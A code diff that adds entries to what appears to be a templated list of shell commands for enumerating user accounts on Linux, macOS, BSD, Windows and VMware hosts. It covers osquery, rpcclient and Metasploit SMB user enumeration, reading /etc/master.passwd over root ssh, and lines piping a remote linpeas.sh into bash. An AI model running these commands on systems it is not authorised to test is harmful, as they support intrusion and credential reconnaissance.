@@ -151,5 +151,29 @@ net-rpc-shell bash: net rpc «user info ‹user›¦user» -I ‹ip› -U «‹u
 evil-winrm bash: evil-winrm -i ‹ip› -u ‹user› -p '‹pass›' <<< "«net user¦Get-LocalUser¦net users»"
 linpeas-users bash: «./linpeas.sh -o users_information¦curl -sL http://‹ip›/linpeas.sh | sh -s -- -o users_information¦bash LinEnum.sh; cat /etc/passwd»
 getfacl-home bash: ls -la /home; cat /etc/passwd | grep /home
+osquery-users-ssh bash: ssh ‹first›@‹ip› 'osqueryi "select username, uid, shell from users"'
+osquery-users-csv bash: osqueryi --csv "select username from users where uid >= «500¦1000»" > ‹lfile›
+osquery-users-groups bash: osqueryi "select u.username, g.groupname from users u join user_groups using(uid) join groups g using(gid)"
+plist-users-find bash: «find¦sudo find» /var/db/dslocal/nodes/Default/users -name '*.plist'
+plist-users-defaults bash: sudo «defaults read¦plutil -p» /var/db/dslocal/nodes/Default/users/«‹first›¦root».plist
+plist-users-ssh bash: ssh ‹first›@‹ip› "sudo ls /var/db/dslocal/nodes/Default/users"
+smb-lookupsid-text text: msf6 auxiliary(scanner/smb/«smb_lookupsid¦smb_enumusers») > run rhosts=‹ip›
+smb-lookupsid-echo bash: echo "use auxiliary/scanner/smb/«smb_lookupsid¦smb_enumusers»; run" | msfconsole -q
+smb-lookupsid-rc bash: msfconsole -x "use scanner/smb/«smb_lookupsid¦smb_enumusers»; set rhosts ‹ip›/24; exploit"
+rpcclient-display bash: rpcclient -U '‹user›%‹pass›' ‹ip› --command="«querydispinfo¦queryuser 0x1f4¦enumdomusers¦lsaenumsid»"
+rpcclient-domain bash: rpcclient -W ‹domain› -U '‹user›%‹pass›' ‹server› -c "«querydispinfo¦queryuser ‹user›¦lsaenumsid»"
+rpcclient-prompt text: rpcclient $> «enumdomusers¦querydispinfo¦queryuser 500¦lsaenumsid¦queryuser ‹user›»
+rpcclient-file bash: rpcclient -A ‹lfile› ‹ip› -c «querydispinfo¦enumdomusers¦'queryuser 500'» | tee ‹lfile›
+perl-getpwent-list bash: perl -le 'print «$_->[0] while $_ = [getpwent] and @$_¦join ",", map { (getpwent)[0] } 1..50»'
+perl-getpwent-ssh bash: ssh ‹first›@‹ip› "perl -e 'while (@u = getpwent) { print \$u[0] }'"
+perl-getpwent-out bash: perl -MUser::pwent -e 'while (my $u = getpwent) { print $u->name, "\n" }' > ‹lfile›
+finger-enum-list bash: finger-user-enum«.pl¦» -U ‹lfile› -«T ‹lfile›¦t ‹ip›»
+linpeas-users-out bash: ./linpeas.sh -o users_information > ‹lfile›
+linpeas-users-ssh bash: ssh ‹first›@‹ip› "bash -s -- -o users_information" < linpeas.sh
+linpeas-users-wget bash: wget -qO- http://‹ip›/linpeas.sh | bash -s -- -o users_information
+bsd-passwd bash: «cut -d: -f1¦awk -F: '{print $1}'¦grep -v nologin» /etc/master.passwd
+bsd-passwd-ssh bash: ssh root@‹ip› "cat /etc/master.passwd"
+bsd-pw bash: «pw usershow -a¦pw usershow -a | cut -d: -f1¦sudo pw usershow -a -7»
+powercli-accounts-named powershell: «Get-VMHostAccount -User -Server ‹server›¦Get-VMHostAccount | select Id,ShellAccessEnabled¦Connect-VIServer ‹server›; Get-VMHostAccount»
 """
 )
